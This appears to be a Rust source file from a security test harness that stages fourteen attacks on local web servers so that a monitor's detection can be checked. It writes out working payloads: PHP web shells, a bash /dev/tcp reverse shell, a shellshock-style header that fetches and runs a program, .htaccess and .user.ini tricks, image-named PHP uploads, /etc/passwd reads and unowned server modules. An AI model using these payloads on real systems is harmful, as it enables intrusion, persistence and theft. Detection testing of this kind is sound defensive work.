//! Attacks on web servers.

use super::deeds::{archive, caught, library, lie_in_wait, prove, prove_file, serve};
use super::hall::{await_port, open_to_all};
use super::{Hall, Server, system};
use crate::command;
use crate::stories::{RealStory, Seen};
use anyhow::Result;
use rustix::process::Signal;
use std::process::Command;

/// A library that says in a file that it was loaded.
const MODULE: &str = include_str!("code/module.c");

/// All of this file.
pub const STORIES: &[RealStory] = &[
    RealStory { id: "A01", run: web_shell },
    RealStory { id: "A02", run: reverse_shell },
    RealStory { id: "A03", run: interpreter_without_shell },
    RealStory { id: "A04", run: uploaded_script },
    RealStory { id: "A05", run: dropped_script },
    RealStory { id: "A06", run: htaccess },
    RealStory { id: "A07", run: user_ini },
    RealStory { id: "A08", run: hostile_plugin },
    RealStory { id: "A09", run: shellshock },
    RealStory { id: "A10", run: shell_as_cgi },
    RealStory { id: "A42", run: apache_module },
    RealStory { id: "A43", run: nginx_module },
    RealStory { id: "A51", run: busybox },
    RealStory { id: "A54", run: php_extension },
];

/// A01: a page runs a command through `system()`.
fn web_shell(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let story = hall.begin();
    prove(&php.ask("s.php", &[("c", "id")])?, "uid=")?;
    hall.seen(story)
}

/// A02: a mod_php page opens a shell back to somebody who waits.
fn reverse_shell(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let (port, waiting) = lie_in_wait()?;
    let story = hall.begin();
    let command = format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'");
    apache.ask("s.php", &[("c", &command)])?;
    caught(&waiting)?;
    hall.seen(story)
}

/// A03: `proc_open` with an array starts an interpreter, without any shell.
fn interpreter_without_shell(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let (port, waiting) = lie_in_wait()?;
    let code = format!(
        "import socket,os,subprocess;s=socket.create_connection((\"127.0.0.1\",{port}));s.recv(99);\
         s.sendall(subprocess.check_output([\"/usr/bin/id\"]))"
    );
    let words = serde_json::to_string(&["/usr/bin/python3", "-c", &code])?;
    let story = hall.begin();
    php.post("s.php", &[("run", &words)])?;
    caught(&waiting)?;
    hall.seen(story)
}

/// A04: an upload with a script's name lands in the uploads tree.
fn uploaded_script(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let local = hall.workplace("upload")?.join("avatar.png");
    std::fs::write(&local, "<?php echo 'I ran ', 6 * 7;")?;
    let story = hall.begin();
    let (file, to) = (format!("file=@{}", local.display()), php.path("www/wp-content/uploads/2026/11/avatar.php"));
    prove(&php.curl("s.php", &["--form", &file, "--form", &format!("as={to}")])?, "moved")?;
    prove_file(to.as_ref(), "I ran")?;
    hall.seen(story)
}

/// A05: one new script in the document root.
fn dropped_script(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let story = hall.begin();
    let to = php.path("www/about2.php");
    prove(&php.post("s.php", &[("to", &to), ("text", "<?php echo 'I ran ', 6 * 7;")])?, "written")?;
    prove(&php.page("about2.php")?, "I ran 42")?;
    hall.seen(story)
}

/// A06: a page writes a `.htaccess` that makes pictures run as PHP, and such a picture.
fn htaccess(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let story = hall.begin();
    let (config, picture) = (apache.path("www/uploads/.htaccess"), apache.path("www/uploads/p.jpg"));
    let text = "AddType application/x-httpd-php .jpg\n<Files *.jpg>\nSetHandler application/x-httpd-php\n</Files>\n";
    prove(&apache.post("s.php", &[("to", &config), ("text", text)])?, "written")?;
    prove(&apache.post("s.php", &[("to", &picture), ("text", "<?php echo 'I ran ', 6 * 7;")])?, "written")?;
    prove(&apache.page("uploads/p.jpg")?, "I ran 42")?;
    hall.seen(story)
}

/// A07: a page writes a `.user.ini` that runs a file before every page.
fn user_ini(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let story = hall.begin();
    let (config, picture) = (php.path("www/.user.ini"), php.path("www/logo.gif"));
    prove(&php.post("s.php", &[("to", &picture), ("text", "<?php echo 'I ran ', 6 * 7;")])?, "written")?;
    let line = format!("auto_prepend_file={picture}\n");
    prove(&php.post("s.php", &[("to", &config), ("text", &line)])?, "written")?;
    hall.seen(story)
}

/// A08: a plugin that is a shell is installed the way plugins are, and then used.
fn hostile_plugin(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let package = archive(&hall.workplace("package")?, "kit", &[("kit/kit.php", "<?php system($_GET['c']);\n")])?;
    let story = hall.begin();
    let parameters = [("do", "plugin"), ("name", "kit"), ("package", &package.display().to_string())];
    prove(&apache.ask("work.php", &parameters)?, "installed")?;
    prove(&apache.ask("wp-content/plugins/kit/kit.php", &[("c", "cat /etc/passwd")])?, "root:")?;
    hall.seen(story)
}

/// A09: a CGI script under bash takes what it is told from outside, fetches a program and runs it.
///
/// The bash of today has no such hole, so the script has it: it evaluates the header.
fn shellshock(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let hole = "#!/bin/bash\necho 'Content-Type: text/plain'\necho\neval \"${HTTP_USER_AGENT#* }\"\n";
    let script = std::path::PathBuf::from(apache.path("cgi-bin/status.sh"));
    std::fs::write(&script, hole)?;
    super::start::age(&script)?;
    let port = serve(std::fs::read("/usr/bin/id")?)?;
    let to = apache.path("tmp/b");
    let story = hall.begin();
    let agent = format!("{{}}; wget -q -O {to} http://127.0.0.1:{port}/b; chmod 0755 {to}; {to}");
    let agent = agent.replacen("{};", "(){}", 1);
    prove(&apache.curl("cgi-bin/status.sh", &["--user-agent", &agent])?, "uid=")?;
    hall.seen(story)
}

/// A10: a path that leads out of the script directory runs the shell itself, with commands in the body.
fn shell_as_cgi(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let story = hall.begin();
    let commands = "echo Content-Type: text/plain; echo; id";
    prove(&apache.curl("traversal/bin/sh", &["--data-binary", commands])?, "uid=")?;
    hall.seen(story)
}

/// A42: root adds a module that no package owns to Apache and reloads it.
fn apache_module(hall: &mut Hall) -> Result<Seen> {
    let apache = hall.victim(Server::Apache)?;
    let own = hall.workplace("module")?;
    let (mark, module) = (own.join("mark"), apache.path("modules/mod_authz_util.so"));
    open_to_all(&own, 0o777)?;
    let library = library(&own, "util", MODULE, &mark)?;
    let story = hall.begin();
    command::output(Command::new("cp").arg(library).arg(&module))?;
    let load = format!("LoadModule authz_util_module {module}");
    let script = "echo \"$1\" > \"$2\"";
    let mut shell = Command::new("bash");
    command::output(shell.args(["-c", script, "bash", &load, &apache.path("mods-enabled/authz_util.load")]))?;
    // It refuses the module, which has none of its symbols, but has mapped it by then.
    let mut start = Command::new("/usr/sbin/apache2");
    let _ = command::output(start.args(["-f", &apache.path("apache.conf"), "-k", "graceful"]));
    system::signal(apache.pid, Signal::USR1);
    prove_file(&mark, &format!("loaded by {}.", apache.pid))?;
    hall.seen(story)
}

/// A43: the same for nginx.
fn nginx_module(hall: &mut Hall) -> Result<Seen> {
    let nginx = hall.victim(Server::Nginx)?;
    let own = hall.workplace("module")?;
    let (mark, module) = (own.join("mark"), nginx.path("modules/ngx_http_gzip_util.so"));
    let library = library(&own, "util", MODULE, &mark)?;
    let story = hall.begin();
    let script = "cp \"$1\" \"$2\"; echo \"load_module $2;\" > \"$3\"";
    let mut shell = Command::new("sh");
    shell.args(["-c", script, "sh"]).arg(library).args([&module, &nginx.path("modules-enabled/99-util.conf")]);
    command::output(&mut shell)?;
    // As for Apache: it is mapped, and then refused.
    system::signal(nginx.pid, Signal::HUP);
    prove_file(&mark, &format!("loaded by {}.", nginx.pid))?;
    hall.seen(story)
}

/// A51: where the shell is busybox, a page has it fetch a second script.
fn busybox(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::PhpOnBusybox)?;
    let port = serve("<?php echo 'I ran ', 6 * 7;")?;
    let story = hall.begin();
    let command = format!("wget -O {} http://127.0.0.1:{port}/x", php.path("www/x.php"));
    php.ask("s.php", &[("c", &command)])?;
    prove(&php.page("x.php")?, "I ran 42")?;
    hall.seen(story)
}

/// A54: root adds an extension that no package owns to PHP-FPM's configuration and reloads it.
fn php_extension(hall: &mut Hall) -> Result<Seen> {
    let php = hall.victim(Server::Php)?;
    let own = hall.workplace("extension")?;
    let mark = own.join("mark");
    let library = library(&own, "cachex", MODULE, &mark)?;
    let story = hall.begin();
    let script = "mkdir -p \"$2\" && cp \"$1\" \"$2/cachex.so\" && echo \"extension=$2/cachex.so\" > \"$3\"";
    let mut shell = Command::new("bash");
    shell.args(["-c", script, "bash"]).arg(library).args([&php.path("ext"), &php.path("conf.d/15-cachex.ini")]);
    command::output(&mut shell)?;
    system::signal(php.pid, Signal::USR2);
    prove_file(&mark, &format!("loaded by {}.", php.pid))?;
    let fpm = std::fs::read_to_string(php.path("fpm.port"))?.parse()?;
    await_port(fpm, php.path("php-fpm.log").as_ref())?;
    hall.seen(story)
}
